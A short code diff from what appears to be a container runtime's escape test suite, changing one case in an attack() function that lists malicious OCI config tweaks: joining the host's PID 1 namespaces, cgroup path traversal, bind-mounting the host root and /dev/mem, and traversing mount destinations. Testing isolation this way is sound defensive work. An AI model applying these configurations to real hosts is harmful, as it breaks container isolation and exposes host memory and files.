@@ -39,7 +39,7 @@ def attack():
                                                        "run.oci.handler": "krun", "run.oci.mount_context_type": "x"}),
         "namespace by path": lambda c: c["linux"].update(namespaces=[{"type": "mount", "path": "/proc/1/ns/mnt"},
                                                                      {"type": "pid", "path": "/proc/1/ns/pid"}, {"type": "network", "path": "/proc/1/ns/net"}]),
-        "cgroup upwards": lambda c: c["linux"].update(cgroupsPath="/../../../" + out),
+        "cgroup upwards": lambda c: c["linux"].update(cgroupsPath=f"/../../../escape-up-{os.getpid()}"),
         "bind of the host's root": lambda c: c["mounts"].append({"destination": "/escape", "type": "bind", "source": "/proc/1/root" + out + "/victim", "options": ["bind", "ro"]}),
         "bind of a device": lambda c: c["mounts"].append({"destination": "/dev/escape", "type": "bind", "source": "/dev/mem", "options": ["bind"]}),
         "bind upwards": lambda c: c["mounts"].append({"destination": "/../../../.." + out, "type": "bind", "source": scratch, "options": ["rbind", "rw"]}),
